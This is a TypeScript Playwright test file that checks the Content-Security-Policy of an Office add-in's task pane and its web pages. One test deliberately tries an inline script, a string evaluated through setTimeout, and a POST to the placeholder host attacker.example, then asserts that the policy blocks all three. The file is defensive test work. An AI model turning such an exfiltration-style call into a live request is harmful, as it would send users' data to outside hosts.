/**
 * The add-in's pages and the web pages beside them carry a Content-Security-Policy, and they run under it: built,
 * served, opened in headless Chromium (the task pane on the scripted Office stand-in), each renders with no
 * violation; in the pane an injected inline script, a string run as code and a request to another origin are refused.
 */
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { buildAddin } from '../../build/addin';
import { contentSecurityPolicy } from '../../build/pages';
import { ADDIN_FILES, LOCAL_BASE_URL } from '../../contract/addin';
import { WEB_FILES } from '../../contract/web';
import { launchChromium } from '../../harness/chromium';
import { fakeOfficeContext } from '../../harness/office/context';

jest.setTimeout(180_000);

let dir: string;
let server: Server;
let base: string;
let browser: Browser;

const TYPES: Record<string, string> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.json': 'application/json',
};

/** Records the page's Content-Security-Policy violations in window.__violations from its first script on. */
function recordViolations(): void {
  const w = window as unknown as { __violations: string[] };
  w.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) =>
    w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`),
  );
}
const violationsOf = (page: Page) =>
  page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'nianbao-csp-'));
  const out = join(dir, 'addin');
  server = createServer((req, res) => {
    try {
      const file = join(out, decodeURIComponent(new URL(req.url!, 'http://x').pathname));
      res.writeHead(200, { 'content-type': TYPES[extname(file)] ?? 'application/octet-stream' });
      res.end(readFileSync(file));
    } catch {
      res.writeHead(404).end();
    }
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  // The manifest wants HTTPS; the pages are served here over HTTP, with the API on the same origin.
  await buildAddin({ outDir: out, baseUrl: LOCAL_BASE_URL, apiBase: `${base}/api`, minify: false });
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await new Promise((r) => server?.close(r));
  rmSync(dir, { recursive: true, force: true });
});

test('every page has the policy: scripts from itself and the Office CDN only, no inline script, no eval', () => {
  const csp = contentSecurityPolicy({ connect: [base] });
  const pages = [ADDIN_FILES.taskpane, ADDIN_FILES.commands, ADDIN_FILES.signIn, ADDIN_FILES.signInCallback];
  for (const page of [...pages, WEB_FILES.upload, WEB_FILES.desk, WEB_FILES.callback]) {
    const html = readFileSync(join(dir, 'addin', page), 'utf8');
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${csp}">`);
    expect(html).not.toMatch(/<script>|<script [^>]*>[^<]/); // no inline script to allow
  }
  const scriptSrc = csp.split('; ').find((d) => d.startsWith('script-src'))!;
  expect(scriptSrc).toBe("script-src 'self' https://appsforoffice.microsoft.com https://ajax.aspnetcdn.com");
  expect(csp).toContain("object-src 'none'");
  expect(csp).toContain(`connect-src 'self' ${base} `);
});

test('the task pane renders under it, and it refuses inline script, eval and requests elsewhere', async () => {
  const context = await fakeOfficeContext(browser);
  const page = await context.newPage();
  await page.addInitScript(recordViolations);
  await page.goto(`${base}/${ADDIN_FILES.taskpane}`);
  await page.getByRole('button', { name: '插入年报模板' }).waitFor();
  expect(await violationsOf(page)).toEqual([]);

  const attempts = await page.evaluate(async () => {
    const out: Record<string, string> = {};
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.appendChild(s);
    out.inline = String((window as unknown as { __inline?: number }).__inline ?? 'blocked');
    // A string run as code (eval's kin) from a later task: the DevTools call that runs this function may eval
    // itself (CDP's allowUnsafeEvalBlockedByCSP), so the attempt must come from the page's own event loop.
    (setTimeout as unknown as (code: string, ms: number) => void)('window.__evaled = 1', 0);
    await new Promise((r) => setTimeout(r, 200));
    out.eval = String((window as unknown as { __evaled?: number }).__evaled ?? 'blocked');
    out.fetch = await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
      () => 'sent',
      () => 'blocked',
    );
    return out;
  });
  expect(attempts).toEqual({ inline: 'blocked', eval: 'blocked', fetch: 'blocked' });
  const violations = await violationsOf(page);
  expect(violations.map((v) => v.split(' ')[0])).toEqual(
    expect.arrayContaining(['script-src-elem', 'script-src', 'connect-src']),
  );
  await context.close();
});

test('the web pages (upload, review desk) render under it with no violation', async () => {
  const context = await browser.newContext({ locale: 'zh-CN' });
  for (const file of [WEB_FILES.upload, WEB_FILES.desk]) {
    const page = await context.newPage();
    await page.addInitScript(recordViolations);
    await page.goto(`${base}/${file}`);
    // The shell's loading line is replaced by the page React renders (module scripts and their chunks ran).
    await page.waitForFunction(() => !document.body.textContent!.includes('正在加载… / Loading…'));
    expect([file, await violationsOf(page)]).toEqual([file, []]);
    await page.close();
  }
  await context.close();
});
